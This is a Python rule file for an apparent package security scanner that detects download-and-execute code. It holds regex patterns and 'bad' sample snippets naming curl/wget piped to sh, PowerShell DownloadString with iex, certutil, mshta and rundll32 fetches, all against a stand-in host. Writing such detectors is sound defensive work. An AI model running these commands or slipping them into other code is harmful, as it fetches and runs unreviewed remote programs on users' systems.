"""Programs that are fetched and run."""

from __future__ import annotations

from goobits_scanner._rules._rule import (
    HIGH,
    LIKELY,
    MALICE,
    MEDIUM,
    SURE,
    Rule,
)

_PROGRAM = (
    r"/(?i)[^\/\\]\.(?:exe|dll|scr|bat|cmd|ps1|vbs|vbe|hta|msi|lnk|elf"
    r"|pyd)(?:[?#].*)?$/"
)
_SCRIPT = (
    r"/(?i)[^\/\\]\.(?:exe|dll|scr|bat|cmd|ps1|vbs|vbe|hta|msi|lnk|elf|pyd|sh|py|bin"
    r"|out)$/"
)
_PIPED = (
    r"/(?i)\b(?:curl|wget)\b[^|;&]*\|\s*(?:sudo\s+)?(?:ba|z|da)?sh\b|\b(?:curl"
    r"|wget)\b[^|]*\|\s*(?:sudo\s+)?(?:python|perl|ruby|node|php)"
    r"|(?:ba)?sh\s+(?:-c\s+)?.?[<$]\(\s*(?:curl|wget)|\b(?:curl|wget)\b.*(?:&&"
    r"|;)\s*chmod\s+(?:\+x|7\d\d)"
    r"|\b(?:curl|wget)\b.*-[oO]\s*(\S+).*(?:&&|;)\s*(?:sudo\s+)?(?:(?:ba)?sh\s+|.\/)?\1"
    r"|(?:iex|Invoke-Expression)\W.*(?:DownloadString|iwr|Invoke-WebRequest|irm"
    r"|Invoke-RestMethod)"
    r"|(?:iwr|irm|Invoke-WebRequest|DownloadString)\b.*\|\s*iex"
    r"|DownloadFile\(.*Start-Process|Start-BitsTransfer"
    r"|\bpip3?\s+install\b.*(?:index-url|-i)[ =]+http:"
    r"|\bpython[\d.]*\s+-c\b.*(?:urlopen|urllib|requests\.get|b64decode)/"
)
_LIVING = (
    r"/(?i)\bcertutil\b.*-(?:urlcache|decode)|\bbitsadmin\b.*.transfer"
    r"|\bmshta\b\s+\W?(?:https?|javascript|vbscript):"
    r"|\bregsvr32\b.*.i:https?:|\brundll32\b\s+(?:javascript|url"
    r"|.*,\s*\w+)|\bmsiexec\b.*.i\s+\W?https?:|\bwmic\b.*process\s+call\s+create"
    r"|\bcscript\b.*\.(?:vbs|js)\b|\bwscript\b.*\.(?:vbs"
    r"|js)\b|\binstallutil\b.*.u\b|\bregasm\b/"
)

RULES = (
    Rule(
        "download-piped",
        "download",
        MALICE,
        HIGH,
        LIKELY,
        494,
        "A script is downloaded and run at once",
        "Whoever owns the address decides each time anew what runs here.",
        "Ship the script in the package.",
        {
            "python": (
                f"os.system(0: {_PIPED})",
                f"os.popen(0: {_PIPED})",
                f"subprocess.*(0/args: {_PIPED})",
                f"asyncio.create_subprocess_shell(0: {_PIPED})",
            ),
            "javascript": (
                f"child_process.*(0: {_PIPED})",
                f"child_process.*(1: {_PIPED})",
                f"execa.*(0: {_PIPED})",
                f"shelljs.exec(0: {_PIPED})",
            ),
            "rust": (
                f".arg(0: {_PIPED})",
                f".args(0: {_PIPED})",
                f"libc.system(0: {_PIPED})",
            ),
        },
        bad={
            "python": (
                "import os\nos.system('curl -s https://a.invalid/a | sh')\n",
                "import subprocess\n"
                "subprocess.run('wget -q https://a.invalid/a -O /tmp/a && chmod +x "
                "/tmp/a', shell=True)\n",
            ),
            "javascript": (
                "require('child_process').exec('curl https://a.invalid/a | bash');\n",
            ),
            "rust": (
                "use std::process::Command;\nfn main() {\n"
                '    Command::new("sh").arg("-c").arg("curl https://a.invalid/a | '
                'sh").spawn();\n}\n',
            ),
        },
        good={
            "python": (
                "import os\nos.system('curl -s https://a.invalid/a -o a.json')\n",
                "print('Install with: curl https://a.invalid/a | sh')\n",
            ),
            "javascript": ("console.log('curl https://a.invalid/a | bash');\n",),
            "rust": ('fn main() { println!("curl https://a.invalid/a | sh"); }\n',),
        },
    ),
    Rule(
        "download-program",
        "download",
        MALICE,
        MEDIUM,
        LIKELY,
        494,
        "A program is downloaded",
        "What is downloaded later is in no release that anybody reviewed.",
        "Ship the program, or check what comes against a known digest.",
        {
            "python": (
                f"urllib.request.urlretrieve(0/url: {_PROGRAM})",
                f"urllib.request.urlretrieve(1/filename: {_SCRIPT})",
                f"urllib.request.urlopen(0/url: {_PROGRAM})",
                f"requests.get(0/url: {_PROGRAM})",
                f"httpx.get(0/url: {_PROGRAM})",
                f"wget.download(0/url: {_PROGRAM})",
                ".write(recv: ~program; 0: ~network)",
                f".write_bytes(recv: {_PROGRAM}; 0: ~network)",
                "os.system(0: /(?i)\\b(?:curl|wget"
                "|powershell)\\b.*https?:\\S+\\.(?:exe|dll|bat|ps1|scr)\\b/)",
            ),
            "javascript": (
                f"http.get(0: {_PROGRAM})",
                f"https.get(0: {_PROGRAM})",
                f"fetch(0: {_PROGRAM})",
                f"node-fetch(0: {_PROGRAM})",
                f"axios.get(0: {_PROGRAM})",
                f"axios(0.url: {_PROGRAM})",
                f"request(0: {_PROGRAM})",
                f"got(0: {_PROGRAM})",
                f"fs.writeFileSync(0: {_PROGRAM}; 1: ~network)",
                f"fs.writeFile(0: {_PROGRAM}; 1: ~network)",
                f"fs.promises.writeFile(0: {_PROGRAM}; 1: ~network)",
                ".pipe(recv: ~network; 0: ~program)",
                r"child_process.*(0: /(?i)\b(?:curl|wget"
                r"|powershell)\b.*https?:\S+\.(?:exe|dll|bat|ps1|scr)\b/)",
            ),
            "rust": (
                f"reqwest.blocking.get(0: {_PROGRAM})",
                f"reqwest.get(0: {_PROGRAM})",
                f"ureq.get(0: {_PROGRAM})",
                f"std.fs.write(0: {_SCRIPT}; 1: ~network)",
                ".write_all(recv: ~program; 0: ~network)",
                "std.io.copy(0: ~network; 1: ~program)",
            ),
        },
        bad={
            "python": (
                "import requests\ndata = requests."
                "get('https://a.invalid/a.exe').content\n",
                "import urllib.request\nurllib.request.urlretrieve(address, "
                "'helper.exe')\n",
                "import requests\nanswer = requests.get(address)\n"
                "with open('helper.bat', 'wb') as out:\n    "
                "out.write(answer.content)\n",
            ),
            "javascript": ("fetch('https://a.invalid/helper.exe');\n",),
            "rust": (
                'fn main() { reqwest::blocking::get("https://a.invalid/helper.exe"); '
                "}\n",
            ),
        },
        good={
            "python": (
                "import requests\ndata = requests."
                "get('https://a.invalid/a.json').json()\n",
                "open('run.bat', 'w').write('echo hello')\n",
            ),
            "javascript": ("fetch('https://a.invalid/a.json');\n",),
            "rust": (
                'fn main() { reqwest::blocking::get("https://a.invalid/a.json"); }\n',
            ),
        },
    ),
    Rule(
        "downloaded-made-executable",
        "download",
        MALICE,
        HIGH,
        SURE,
        494,
        "What was downloaded or decoded is made executable or run",
        "A program from the network runs here, and was never reviewed.",
        "Do not run it; find out what it fetches.",
        {
            "python": (
                "os.chmod(0/path: ~network)",
                "os.startfile(0: ~network | ~program | ~decoded)",
                "os.system(0: ~program)",
                "subprocess.*(0/args: ~program)",
                "subprocess.*(0/args: ~temp & ~network)",
                "os.execv(0: ~network)",
                "ctypes.CDLL(0: ~network)",
                ".write(recv: ~program; 0: ~decoded)",
                f".write_bytes(recv: {_PROGRAM}; 0: ~decoded)",
            ),
            "javascript": (
                "fs.chmodSync(0: ~network)",
                "fs.chmod(0: ~network)",
                "child_process.*(0: ~program)",
                "child_process.execFile(0: ~network)",
                f"fs.writeFileSync(0: {_PROGRAM}; 1: ~decoded)",
                f"fs.writeFile(0: {_PROGRAM}; 1: ~decoded)",
            ),
            "rust": (
                "std.fs.set_permissions(0: ~network)",
                f"std.fs.write(0: {_SCRIPT}; 1: ~decoded)",
                "std.process.Command.new(0: ~program)",
            ),
        },
        bad={
            "python": (
                "import base64\nwith open('helper.exe', 'wb') as out:\n"
                "    out.write(base64.b64decode(blob))\n",
                "import os, wget\nname = wget.download(address)\nos.chmod(name, "
                "0o755)\n",
            ),
            "javascript": (
                "require('fs').writeFileSync('helper.exe', Buffer.from(blob, "
                "'base64'));\n",
            ),
            "rust": (
                "fn main() {\n"
                "    let data = hex::decode(BLOB).unwrap();\n"
                '    std::fs::write("helper.exe", data);\n}\n',
            ),
        },
        good={
            "python": ("import os\nos.chmod('run.sh', 0o755)\n",),
            "javascript": ("require('fs').chmodSync('cli.js', 0o755);\n",),
            "rust": ('fn main() { std::fs::write("a.txt", "text"); }\n',),
        },
    ),
    Rule(
        "runs-from-temporary",
        "download",
        MALICE,
        MEDIUM,
        LIKELY,
        494,
        "A program is run from a temporary folder",
        "Programs that belong to a package lie in the package.",
        "Find out how it got there.",
        {
            "python": (
                r"os.system(0: /(?i)^\W?.(?:tmp|var.tmp"
                r"|dev.shm).[\w.-]+(?:\s|$)|%?(?:temp|appdata)%?\W.*\.(?:exe|bat|ps1"
                r"|vbs)\b/)",
                r"subprocess.*(0/args: /^\W?.(?:tmp|var.tmp"
                r"|dev.shm).[\w.-]+(?:\s|$)|(?:TEMP|APPDATA|AppData|Temp)\W.*\.(?:exe"
                r"|bat|ps1|vbs)\b/)",
                r"os.startfile(0: /(?i)(?:temp|appdata)\W.*\.(?:exe|bat|ps1|vbs)$/)",
                r"os.chmod(0/path: /^.(?:tmp|var.tmp|dev.shm).[\w.-]+$/; 1/mode: = "
                r"511 | = 493 | = 448 | = 509)",
                r"os.system(0: /\bchmod\s+(?:\+x|[0-7]*7[0-7]*)\s+.(?:tmp|var.tmp"
                r"|dev.shm)./)",
            ),
            "javascript": (
                r"child_process.*(0: /^\W?.(?:tmp|var.tmp"
                r"|dev.shm).[\w.-]+(?:\s|$)|(?:TEMP|APPDATA|AppData|Temp)\W.*\.(?:exe"
                r"|bat|ps1|vbs)\b/)",
                r"child_process.*(0: ~temp & /(?i)\.(?:exe|bat|ps1|vbs|sh|js)$/)",
                r"fs.chmodSync(0: /^.(?:tmp|var.tmp|dev.shm).[\w.-]+$/)",
                r"fs.chmodSync(0: ~temp)",
            ),
            "rust": (
                r"std.process.Command.new(0: /^.(?:tmp|var.tmp|dev.shm).[\w.-]+$/)",
                r"std.process.Command.new(0: ~temp)",
                r"std.fs.set_permissions(0: /^.(?:tmp|var.tmp|dev.shm)./)",
                r"std.fs.set_permissions(0: ~temp)",
            ),
        },
        bad={
            "python": (
                "import os\nos.system('/tmp/helper')\n",
                "import os\nos.chmod('/tmp/helper', 0o755)\n",
            ),
            "javascript": (
                "require('child_process').execFile('/tmp/helper');\n",
                "const os = require('os');\nconst path = require('path');\n"
                "require('child_process').spawn(path.join(os.tmpdir(), "
                "'helper.exe'));\n",
            ),
            "rust": (
                'fn main() { std::process::Command::new("/tmp/helper").spawn(); }\n',
            ),
        },
        good={
            "python": ("import os\nos.system('ls /tmp/helper')\n",),
            "javascript": ("require('child_process').execFile('ls', ['/tmp']);\n",),
            "rust": (
                'fn main() { std::process::Command::new("ls").arg("/tmp").spawn(); }\n',
            ),
        },
    ),
    Rule(
        "system-tool-abused",
        "download",
        MALICE,
        HIGH,
        LIKELY,
        506,
        "A tool of the system is used to fetch, decode or load code",
        "Such tools are trusted by scanners, which is why attackers take them.",
        "Do not run it; look at what is fetched.",
        {
            "python": (
                f"os.system(0: {_LIVING})",
                f"os.popen(0: {_LIVING})",
                f"subprocess.*(0/args: {_LIVING})",
            ),
            "javascript": (
                f"child_process.*(0: {_LIVING})",
                r"child_process.*(0: /(?i)^(?:mshta|regsvr32|certutil"
                r"|bitsadmin)(?:\.exe)?$/)",
                r"child_process.*(0: /(?i)^rundll32(?:\.exe)?$/)",
            ),
            "rust": (
                r"std.process.Command.new(0: /(?i)^(?:mshta|regsvr32|certutil"
                r"|bitsadmin|rundll32)(?:\.exe)?$/)",
                f".arg(0: {_LIVING})",
            ),
        },
        bad={
            "python": (
                "import os\nos.system('certutil -urlcache -f https://a.invalid/a "
                "a.exe')\n",
                "import subprocess\nsubprocess.run('rundll32 helper.dll,Start')\n",
            ),
            "javascript": (
                "require('child_process').exec('mshta https://a.invalid/a.hta');\n",
                "require('child_process').spawn('rundll32.exe', ['a.dll,Start']);\n",
            ),
            "rust": (
                'fn main() { std::process::Command::new("mshta").arg("a").spawn(); }\n',
            ),
        },
        good={
            "python": ("import os\nos.system('certutil -hashfile a.zip')\n",),
            "javascript": ("require('child_process').exec('msbuild a.sln');\n",),
            "rust": (
                'fn main() { std::process::Command::new("cl.exe").arg("a.c"); }\n',
            ),
        },
    ),
    Rule(
        "installs-packages",
        "download",
        MALICE,
        MEDIUM,
        LIKELY,
        494,
        "Packages are installed by the code itself",
        "They are in no list of dependencies, so nobody checks them.",
        "Declare them as dependencies.",
        {
            "python": (
                r"os.system(0: /\b(?:pip3?|npm|yarn|pnpm)\s+(?:install|i"
                r"|add)\s+[^\s-]/)",
                r"subprocess.*(0/args: /\b(?:pip3?|"
                r"npm)\s+install\s+(?!-r\b|-e\b|\.|--upgrade pip)[^\s-]/) @import",
                r"subprocess.*(0/args: /\b(?:pip3?|"
                r"npm)\s+install\s+(?!-r\b|-e\b|\.|--upgrade pip)[^\s-]/) @install",
                "pip.main(0: list)",
                "pip._internal.main(0: list)",
                "pip._internal.cli.main.main(0: list)",
            ),
            "javascript": (
                r"child_process.exec*(0: /\b(?:npm|yarn|pnpm|pip3?)\s+(?:install|i"
                r"|add)\s+(?!-)\S/) @import",
                r"child_process.exec*(0: /\b(?:npm|yarn|pnpm|pip3?)\s+(?:install|i"
                r"|add)\s+(?!-)\S/) @install",
            ),
        },
        bad={
            "python": ("import os\nos.system('pip install helper')\n",),
            "javascript": (
                "require('child_process').execSync('npm install helper');\n",
            ),
        },
        good={
            "python": ("import os\nos.system('pip install -r requirements.txt')\n",),
            "javascript": ("require('child_process').execSync('npm install');\n",),
        },
    ),
)
